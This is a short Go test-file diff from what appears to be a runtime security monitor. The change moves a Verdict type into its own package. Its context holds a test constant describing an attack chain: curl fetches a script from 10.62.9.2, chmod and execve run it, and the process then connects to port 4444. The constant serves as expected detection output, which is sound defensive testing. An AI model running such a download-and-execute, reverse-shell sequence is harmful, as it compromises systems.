@@ -9,6 +9,7 @@ import (
 	"unicode/utf8"
 
 	"github.com/faasmon/faasmon/pkg/provenance"
+	"github.com/faasmon/faasmon/pkg/verdict"
 )
 
 const wantChain = "node index.js → curl http://10.62.9.2/p.sh → /tmp/p.sh → chmod → execve /tmp/p.sh → connect 10.62.9.2:4444"
@@ -33,7 +34,7 @@ func TestChainText(t *testing.T) {
 
 	tests := []struct {
 		name    string
-		v       Verdict
+		v       verdict.Verdict
 		want    string // exact, or
 		pattern string // a regexp
 	}{
